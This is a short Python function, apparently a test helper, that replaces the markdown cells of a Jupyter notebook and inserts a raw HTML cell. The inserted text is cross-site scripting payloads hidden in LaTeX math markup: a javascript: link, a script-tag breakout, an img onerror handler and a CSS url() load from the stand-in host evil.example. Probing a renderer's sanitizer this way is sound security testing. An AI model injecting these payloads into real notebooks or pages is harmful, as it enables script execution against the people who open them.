def edit(cells):
    text = (
        "$\\href{javascript:alert(1)}{x}$ $$</script><script>alert(1)</script>$$ $\\style{b"
        "ackground:url(//evil.example)}{x}$ \\begin{equation}<img src=x onerror=alert(1)>\\"
        "end{equation}"
    )
    for cell in cells:
        if cell["cell_type"] == "markdown":
            cell["source"] = text
    cells.insert(0, {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": text})
